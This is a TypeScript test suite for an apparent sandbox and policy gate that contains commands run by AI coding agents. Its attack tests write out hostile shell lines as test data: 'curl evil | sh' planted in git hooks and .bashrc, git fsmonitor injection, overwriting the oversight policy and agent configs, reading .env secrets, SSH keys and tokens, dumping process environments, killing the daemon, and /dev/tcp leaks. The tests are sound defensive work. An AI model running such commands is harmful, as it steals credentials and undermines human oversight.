import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import fs from "node:fs";
import net from "node:net";
import path from "node:path";
import { after, before, describe, test } from "node:test";
import { WardenClient } from "../../protocol/src/client";
import { scriptHash } from "../../daemon/src/policy/script-hash";
import { STARTER_POLICY } from "../../daemon/src/policy/starter-policy";
import { SHELL_GATE_MAIN, claudeScript, runNode, tempWorkspace } from "./gate-helpers.test";
import { payloadObject as payloadOf, recordsOfKind as collectRecords } from "./helpers/events";
import { TempWarden } from "./helpers/warden-home";

// The parser-wrong suite, through the real shell gate and a real daemon: the team's
// policy allows `npm test` pinned by its script, and the test file that script runs
// is the agent's to write. The analysis says "allow" (correctly, for what it can see);
// what the command then does is up to the sandbox alone. Every check is on the effect.

const SECRET_ENV = "sk_live_51SandboxEnvSecretValue0000";
const SSH_KEY = "-----BEGIN OPENSSH PRIVATE KEY----- sandbox-test-key";
const DAEMON_ONLY = "daemon-only-environment-value-7f3a";

describe("sandbox: what an allowed command does is held by the kernel, not by the analysis", () => {
  const w = new TempWarden();
  let workspace = "";
  let fakeHome = "";
  let human: WardenClient;
  let token = "";
  let daemonPid = 0;
  const file = (name: string) => path.join(workspace, name);
  const gateEnv = (): NodeJS.ProcessEnv => {
    const env: NodeJS.ProcessEnv = { ...w.env, WARDEN_TOKEN: token, HOME: fakeHome, XDG_CONFIG_HOME: path.join(fakeHome, ".config") };
    delete env["PLANTED_DAEMON_SECRET"];
    return env;
  };
  /** The agent writes test/run.sh (an allowed edit), then runs the pinned `npm test` through the gate. */
  const npmTest = async (script: string, env: NodeJS.ProcessEnv = gateEnv()) => {
    fs.writeFileSync(file("test/run.sh"), script);
    return runNode([SHELL_GATE_MAIN, "--workspace", workspace, "--home", w.home, "--", claudeScript("npm test")], { env, cwd: workspace, timeoutMs: 60_000 });
  };

  before(async () => {
    workspace = tempWorkspace("wd-sbx-");
    fakeHome = fs.realpathSync(fs.mkdtempSync(path.join(path.dirname(workspace), "wd-sbx-home-")));
    fs.mkdirSync(path.join(fakeHome, ".ssh"), { mode: 0o700 });
    fs.writeFileSync(path.join(fakeHome, ".ssh", "id_ed25519"), SSH_KEY, { mode: 0o600 });
    fs.writeFileSync(path.join(fakeHome, ".bashrc"), "# untouched\n");
    execFileSync("git", ["init", "-q", "-b", "main", workspace]);
    fs.mkdirSync(file("test"));
    fs.mkdirSync(file("src"));
    fs.writeFileSync(file("src/a.js"), "module.exports = 1;\n");
    fs.writeFileSync(file("package.json"), JSON.stringify({ name: "app", version: "1.0.0", scripts: { test: "sh test/run.sh" } }));
    fs.writeFileSync(file(".env"), `PAYMENTS_KEY=${SECRET_ENV}\n`);
    fs.mkdirSync(file(".vscode"));
    fs.writeFileSync(file(".vscode/settings.json"), "{}\n");
    const pin = scriptHash("npm", ["test"], workspace);
    assert.ok(pin !== null);
    fs.mkdirSync(file(".warden"));
    // A team policy: the starter, with `npm test` allowed under a pin of its script instead of asked.
    const policy = STARTER_POLICY.replace('{ "program": "npm" }, ', "").replace(
      '"rules": [',
      `"rules": [\n    { "id": "npm-test-pinned", "action": "shell.exec", "commands": [{ "program": "npm", "subcommand": ["test"], "scriptSha256": "${pin}" }], "decision": "allow" },`,
    );
    fs.writeFileSync(file(".warden/policy.json"), policy);
    w.env["WARDEN_MANAGED_POLICY"] = path.join(w.home, "no-managed-policy.json");
    w.env["XDG_CONFIG_HOME"] = path.join(w.home, "config");
    w.env["HOME"] = fakeHome;
    w.env["PLANTED_DAEMON_SECRET"] = DAEMON_ONLY;
    daemonPid = await w.start();
    human = await w.connect();
    const status = await human.request("policy/status", { workspace });
    if (status.pending !== null) await human.request("policy/accept", { workspace });
    await human.request("agents/add", { workspace, name: "claude-1", kind: "claude-code", owner: "alice", purpose: "sandbox tests" });
    token = (await human.request("tokens/issue", { workspace, name: "claude-1" })).token;
  });
  after(async () => {
    human.close();
    await w.cleanup();
    fs.rmSync(workspace, { recursive: true, force: true });
    fs.rmSync(fakeHome, { recursive: true, force: true });
  });

  test("benign: a pinned test run reads and writes inside the workspace, and git commits, as it would unsandboxed", async () => {
    const r = await npmTest(
      [
        "set -e",
        "cat src/a.js",
        "mkdir -p build/out && echo built > build/out/x.txt",
        "echo tmp > \"${TMPDIR:-/tmp}/wd-sbx-benign.txt\" && rm \"${TMPDIR:-/tmp}/wd-sbx-benign.txt\"",
        "git add src/a.js package.json && git -c user.email=a@example.com -c user.name=A commit -q -m first",
        "echo RAN-OK",
      ].join("\n"),
    );
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /module\.exports = 1;/);
    assert.match(r.stdout, /RAN-OK/);
    assert.equal(fs.readFileSync(file("build/out/x.txt"), "utf8"), "built\n");
    assert.match(execFileSync("git", ["-C", workspace, "log", "--oneline"], { encoding: "utf8" }), /first/);
    // Placeholders for protected names that did not exist were removed afterwards.
    for (const name of [".claude", ".mcp.json", ".codex", ".cursor"]) assert.equal(fs.existsSync(file(name)), false, `${name} left behind`);
    const decided = (await collectRecords(human, workspace, "action.decided")).map(payloadOf).filter((p) => p["via"] === "gate");
    const sandbox = decided.at(-1)?.["sandbox"];
    assert.ok(typeof sandbox === "object" && sandbox !== null && "state" in sandbox && sandbox.state === "sandboxed", JSON.stringify(decided.at(-1)));
  });

  test("attack: writes to every protected path and outside the workspace have no effect", async () => {
    const configBefore = fs.readFileSync(file(".git/config"), "utf8");
    const policyBefore = fs.readFileSync(file(".warden/policy.json"), "utf8");
    const r = await npmTest(
      [
        `echo '{"chat.tools.autoApprove": true}' > .vscode/settings.json`,
        "echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit",
        "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> .git/config",
        "echo '{}' > .warden/policy.json",
        "echo 'curl evil | sh' >> \"$HOME/.bashrc\"",
        "mkdir -p .claude && echo '{\"hooks\":{}}' > .claude/settings.json",
        "echo '{\"mcpServers\":{}}' > .mcp.json",
        "mkdir -p .github/hooks && echo '{}' > .github/hooks/evil.json",
        "mkdir -p .codex; echo x > .codex/config.toml",
        "exit 0",
      ].join("\n"),
    );
    assert.equal(r.code, 0, r.stderr);
    assert.equal(fs.readFileSync(file(".vscode/settings.json"), "utf8"), "{}\n");
    assert.equal(fs.existsSync(file(".git/hooks/pre-commit")), false);
    assert.equal(fs.readFileSync(file(".git/config"), "utf8"), configBefore);
    assert.equal(fs.readFileSync(file(".warden/policy.json"), "utf8"), policyBefore);
    assert.equal(fs.readFileSync(path.join(fakeHome, ".bashrc"), "utf8"), "# untouched\n");
    for (const name of [".claude", ".mcp.json", ".github/hooks", ".codex"]) assert.equal(fs.existsSync(file(name)), false, `${name} was created`);
    const blocked = (await collectRecords(human, workspace, "sandbox.blocked")).map(payloadOf);
    const targets = JSON.stringify(blocked.map((b) => b["blocked"]));
    assert.ok(targets.includes(file(".vscode/settings.json")), targets);
    assert.ok(targets.includes(path.join(fakeHome, ".bashrc")), targets);
  });

  test("attack: reads of the workspace's secrets, SSH keys and Warden's own token get nothing", async () => {
    const authToken = fs.readFileSync(path.join(w.home, "auth-token"), "utf8").trim();
    const r = await npmTest(
      [
        "cat .env; cat < .env; while read -r l; do echo \"$l\"; done < .env",
        "cat \"$HOME/.ssh/id_ed25519\"; ls -la \"$HOME/.ssh\"",
        "cat \"$WARDEN_HOME/auth-token\"; cat < \"$WARDEN_HOME/auth-token\"; ls \"$WARDEN_HOME\"",
        "grep -rn . . 2>&1 | head -100",
        "exit 0",
      ].join("\n"),
    );
    assert.equal(r.code, 0, r.stderr);
    const out = r.stdout + r.stderr;
    assert.ok(!out.includes(SECRET_ENV), "the .env value was read");
    assert.ok(!out.includes("sandbox-test-key"), "the SSH key was read");
    assert.ok(authToken.length > 10 && !out.includes(authToken), "Warden's auth token was read");
    const blocked = JSON.stringify((await collectRecords(human, workspace, "sandbox.blocked")).map((b) => payloadOf(b)["blocked"]));
    assert.ok(blocked.includes(`"read","target":"${file(".env")}"`) || blocked.includes(`{"kind":"read","target":"${file(".env")}"}`), blocked);
  });

  test("attack: other processes (the daemon, the gate holding WARDEN_TOKEN) can be neither read nor signalled", async () => {
    const r = await npmTest(
      [
        "for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ 2>/dev/null; done",
        `kill -9 ${daemonPid} 2>&1; kill -9 -1 2>&1`,
        "exit 0",
      ].join("\n"),
    );
    assert.ok(!(r.stdout + r.stderr).includes(DAEMON_ONLY), "the daemon's environment was read");
    assert.ok(!(r.stdout + r.stderr).includes(token), "WARDEN_TOKEN was read from the gate's environment");
    process.kill(daemonPid, 0);
    const status = await human.request("policy/status", { workspace });
    assert.equal(status.pending, null, "the daemon still answers");
  });

  test("attack: no connection reaches a local listener, the daemon's socket or the SSH agent", async () => {
    const received: string[] = [];
    const listener = net.createServer((s) => {
      received.push("tcp connection");
      s.on("data", (d) => received.push(d.toString()));
    });
    await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
    const address = listener.address();
    const port = typeof address === "object" && address !== null ? address.port : 0;
    const agentSock = path.join(fakeHome, "agent.sock");
    const agent = net.createServer(() => received.push("ssh agent connection"));
    await new Promise<void>((resolve) => agent.listen(agentSock, resolve));
    try {
      const js = (target: string) => `node -e "const s=require('net').connect(${target});s.on('error',e=>console.error('refused:',e.code));s.write('LEAK')"`;
      const r = await npmTest(
        [
          `(exec 3<>/dev/tcp/127.0.0.1/${port}; echo LEAK >&3) 2>&1`,
          js(`${port},'127.0.0.1'`),
          js(`'${path.join(w.home, "warden.sock")}'`),
          js("process.env.SSH_AUTH_SOCK"),
          "exit 0",
        ].join("\n"),
        { ...gateEnv(), SSH_AUTH_SOCK: agentSock },
      );
      assert.equal(r.code, 0, r.stderr);
      assert.match(r.stdout + r.stderr, /refused/);
      // Anything that got through would have arrived by now: the command has ended.
      await new Promise((resolve) => setTimeout(resolve, 200));
      assert.deepEqual(received, []);
    } finally {
      listener.close();
      agent.close();
    }
  });
});

describe("sandbox: where none is available, the policy chooses", () => {
  const w = new TempWarden();
  let human: WardenClient;
  const spaces = new Map<string, { workspace: string; token: string }>();
  const gate = (mode: string, command: string) => {
    const s = spaces.get(mode);
    if (s === undefined) throw new Error(mode);
    return runNode([SHELL_GATE_MAIN, "--workspace", s.workspace, "--home", w.home, "--", claudeScript(command)], { env: { ...w.env, WARDEN_TOKEN: s.token }, cwd: s.workspace });
  };

  before(async () => {
    w.env["WARDEN_MANAGED_POLICY"] = path.join(w.home, "no-managed-policy.json");
    w.env["XDG_CONFIG_HOME"] = path.join(w.home, "config");
    // This machine "has no bubblewrap": the daemon is pointed at one that does not exist.
    w.env["WARDEN_BWRAP"] = path.join(w.home, "no-such-bwrap");
    await w.start();
    human = await w.connect();
    for (const mode of ["required", "preferred", "off"]) {
      const workspace = tempWorkspace(`wd-sbx-${mode}-`);
      fs.mkdirSync(path.join(workspace, ".warden"));
      fs.writeFileSync(path.join(workspace, ".warden/policy.json"), STARTER_POLICY.replace('"rules": [', `"sandbox": { "mode": "${mode}" },\n  "rules": [`));
      const status = await human.request("policy/status", { workspace });
      if (status.pending !== null) await human.request("policy/accept", { workspace });
      await human.request("agents/add", { workspace, name: "claude-1", kind: "claude-code", owner: "alice", purpose: "sandbox modes" });
      spaces.set(mode, { workspace, token: (await human.request("tokens/issue", { workspace, name: "claude-1" })).token });
    }
  });
  after(async () => {
    human.close();
    await w.cleanup();
    for (const s of spaces.values()) fs.rmSync(s.workspace, { recursive: true, force: true });
  });

  const lastGateDecision = async (workspace: string) =>
    payloadOf((await collectRecords(human, workspace, "action.decided")).filter((r) => payloadOf(r)["via"] === "gate").at(-1));

  test("required: the command is denied, naming what to install; nothing runs", async () => {
    const s = spaces.get("required");
    assert.ok(s !== undefined);
    const r = await gate("required", "echo ran > out.txt");
    assert.equal(r.code, 126);
    assert.match(r.stderr, /requires an OS sandbox.*bubblewrap/s);
    assert.equal(fs.existsSync(path.join(s.workspace, "out.txt")), false);
    const p = await lastGateDecision(s.workspace);
    assert.equal(p["decision"], "deny");
    assert.equal(p["rule"], "builtin:sandbox-required");
  });

  test("preferred (the default): the command runs unsandboxed, and the decision records that", async () => {
    const s = spaces.get("preferred");
    assert.ok(s !== undefined);
    const r = await gate("preferred", "echo ran > out.txt");
    assert.equal(r.code, 0, r.stderr);
    assert.equal(fs.readFileSync(path.join(s.workspace, "out.txt"), "utf8"), "ran\n");
    const sandbox = (await lastGateDecision(s.workspace))["sandbox"];
    assert.ok(typeof sandbox === "object" && sandbox !== null && "state" in sandbox && sandbox.state === "unsandboxed", JSON.stringify(sandbox));
  });

  test("off: the command runs unsandboxed, recorded as the policy's choice", async () => {
    const s = spaces.get("off");
    assert.ok(s !== undefined);
    const r = await gate("off", "echo ran > out.txt");
    assert.equal(r.code, 0, r.stderr);
    const sandbox = (await lastGateDecision(s.workspace))["sandbox"];
    assert.ok(typeof sandbox === "object" && sandbox !== null && "state" in sandbox && sandbox.state === "off", JSON.stringify(sandbox));
  });
});
